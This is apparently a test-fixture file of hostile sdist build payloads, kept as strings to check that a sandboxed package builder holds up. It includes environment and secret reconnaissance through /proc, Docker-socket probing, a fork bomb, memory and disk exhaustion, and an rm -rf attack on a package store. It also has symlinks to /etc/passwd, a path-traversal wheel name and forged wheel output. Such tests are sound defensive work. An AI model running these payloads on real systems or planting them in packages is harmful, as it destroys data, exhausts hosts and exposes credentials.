"""What a hostile sdist does while it is built: code for `sdists.make_sdist`, loops that never end.

It is only ever run in a container with limits.
"""

from __future__ import annotations

LOOK_AROUND = """
import glob, os

def read(path):
    try:
        return open(path, "rb").read().decode(errors="replace")
    except OSError:
        return ""

def look():
    writable = []
    for folder, names, _ in os.walk("/"):
        if folder.startswith(("/proc", "/sys")):
            names.clear()
        elif os.access(folder, os.W_OK):
            writable.append(folder)
            names.clear()
    return {
        "names": sorted(os.environ),
        "text": "".join(map(read, glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"))),
        "uid": os.getuid(),
        "sockets": [p for p in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(p)],
        "interfaces": os.listdir("/sys/class/net"),
        "writable": writable,
        "mounts": read("/proc/mounts"),
        "status": read("/proc/self/status"),
    }
"""

CALL = """
import socket

def call(host, port):
    try:
        socket.create_connection((host, port), 2).close()
        return "reached"
    except OSError as error:
        return type(error).__name__

def look():
    return [call(*host) for host in HOSTS]
"""

SLEEP = """
import time
def act():
    while True:
        time.sleep(60)
"""

IGNORE_SIGNALS = """
import signal, time
def act():
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(60)
"""

LEAVE_A_CHILD = """
import os, time
def act():
    if os.fork() == 0:
        os.setsid()
        time.sleep(600)
    raise SystemExit(3)
"""

FORK = """
import os
def act():
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""

FORK_AND_FAIL = """
import os, time
def act():
    while True:
        if os.fork() == 0:
            os.closerange(0, 256)
            time.sleep(600)
"""

EAT_MEMORY = """
def act():
    held = []
    while True:
        held.append(b"x" * 2**24)
"""

FILL_THE_DISK = """
def act():
    with open("large", "wb") as stream:
        while True:
            stream.write(bytes(2**24))
"""

FLOOD_THE_LOG = """
import os
def act():
    while True:
        os.write(2, b"x" * 2**16)
"""

ATTACK_THE_STORE = """
import os, shutil

def attempt(call, *arguments):
    try:
        call(*arguments)
    except OSError:
        pass

def spoil(path):
    with open(path, "ab") as stream:
        stream.write(b"hostile")

def act():
    attempt(shutil.rmtree, "/store")
    for folder, folders, names in os.walk("/store"):
        for path in [os.path.join(folder, name) for name in folders + names]:
            for call in (os.unlink, os.rmdir, os.utime, spoil):
                attempt(call, path)
            attempt(os.chmod, path, 0o777)
            attempt(os.rename, path, path + "-gone")
            attempt(os.symlink, "/etc/passwd", path + "-link")
            attempt(os.link, path, path + "-hard")
            attempt(os.truncate, path, 0)
            attempt(os.setxattr, path, "user.x", b"y")
            attempt(os.mkfifo, path + "-pipe")
    for pid in os.listdir("/proc"):
        attempt(spoil, "/proc/%s/root/store/hostile" % pid)
    os.system("mount -o remount,rw /store; umount /store; rm -rf /store/*")
"""

PRINT_A_WHEEL = """
def act():
    print("hostile-1.0-py3-none-any.whl")
    print("PK forged", flush=True)
"""

WRITE_TO_THE_WHEELS_STREAM = """
import glob
def act():
    for path in glob.glob("/proc/[0-9]*/fd/3"):
        try:
            with open(path, "w") as stream:
                stream.write("../../x.whl\\nPK")
        except OSError:
            pass
"""

ASK_FOR_AN_ADDRESS = """
EXTRA = {
    "hostile-1.0.dist-info/METADATA":
    "Metadata-Version: 2.1\\nName: hostile\\nVersion: 1.0\\nRequires-Dist: x @ file:///etc/passwd\\n"
}
"""

GIVE_NO_WHEEL = """
def pack(folder):
    open(folder + "/hostile-1.0-py3-none-any.whl", "w").close()
    return "hostile-1.0-py3-none-any.whl"
"""
